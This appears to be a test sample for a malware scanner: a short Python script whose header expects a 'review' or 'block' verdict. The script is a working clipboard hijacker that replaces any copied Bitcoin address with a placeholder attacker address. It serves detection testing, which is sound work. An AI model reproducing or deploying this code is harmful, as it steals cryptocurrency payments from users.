# expect: review|block
import re
import time

import pyperclip

ATTACKER = "bc1qexampleattackeraddressxxxxxxxxxxxxxxxxxx"
BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")
while True:
    text = pyperclip.paste()
    if BTC.match(text) and text != ATTACKER:
        pyperclip.copy(ATTACKER)
    time.sleep(0.5)
